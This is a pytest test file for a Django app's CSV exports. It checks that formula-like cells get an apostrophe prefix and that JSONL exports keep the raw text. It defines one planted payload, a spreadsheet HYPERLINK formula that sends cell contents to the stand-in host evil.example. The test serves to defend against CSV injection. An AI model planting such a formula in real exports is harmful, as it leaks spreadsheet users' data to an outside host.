"""Every CSV the app writes neutralises cells that a spreadsheet would run as a formula
(OWASP: a leading = + - @ tab or carriage return gets an apostrophe); JSONL keeps the text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.urls import reverse

from generation.models import IcdCode
from medsynth_site.csv_cells import csv_safe
from review.datasets.export import ExportOptions, dataset_export_write
from review.management.commands.import_dataset import report_write
from review.models import ReviewDecision
from tests.factories import SAMPLE_NOTE, IcdCodeFactory, approved_pair_create

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("Plain text = fine", "Plain text = fine"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_starts_like_a_formula(cell, written):
    assert csv_safe(cell) == written


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("profile", ["medsynth", "full"])
def test_the_dataset_csv_neutralises_a_planted_formula_and_jsonl_keeps_it(tmp_path, profile):
    approved_pair_create(note={**SAMPLE_NOTE, "plan": PLANTED}, note_text=PLANTED)

    dataset_export_write(options=ExportOptions(fmt="csv", profile=profile), out=tmp_path / "csv")
    dataset_export_write(options=ExportOptions(fmt="jsonl", profile=profile), out=tmp_path / "jsonl")

    row = _csv_rows(tmp_path / "csv" / "data" / "train.csv")[0]
    record = json.loads((tmp_path / "jsonl" / "data" / "train.jsonl").read_text(encoding="utf-8"))
    column = "plan" if profile == "full" else "Note"
    assert row[column] == "'" + PLANTED
    assert record[column] == PLANTED
    assert not any(value.startswith("=") for value in row.values())
    card = (tmp_path / "csv" / "README.md").read_text(encoding="utf-8")
    assert "## CSV cells" in card
    assert "## CSV cells" not in (tmp_path / "jsonl" / "README.md").read_text(encoding="utf-8")


def test_the_import_row_report_neutralises_cells(tmp_path):
    report = tmp_path / "report.csv"

    report_write(report=[{"line": 2, "column": "@col", "problem": PLANTED}], path=report)

    assert _csv_rows(report) == [{"line": "2", "column": "'@col", "severity": "error", "problem": "'" + PLANTED}]


def test_the_admin_decision_export_neutralises_a_planted_comment(admin_client):
    case = approved_pair_create()
    ReviewDecision.objects.filter(case=case).update(comment=PLANTED)

    response = admin_client.post(
        reverse("admin:review_reviewdecision_export"),
        {"format": "0", "resource": "0", **{f"reviewdecisionresource_{name}": "on" for name in ("id", "comment")}},
    )

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert rows[0]["comment"] == "'" + PLANTED


def test_the_admin_catalogue_export_neutralises_a_description(admin_client):
    IcdCodeFactory(code="Z99.9", description="-dependence on machines")
    assert IcdCode.objects.filter(description__startswith="-").exists()

    response = admin_client.post(
        reverse("admin:generation_icdcode_export"),
        {"format": "0", "resource": "0", "icdcoderesource_code": "on", "icdcoderesource_description": "on"},
    )

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert {"code": "Z99.9", "description": "'-dependence on machines"} in rows
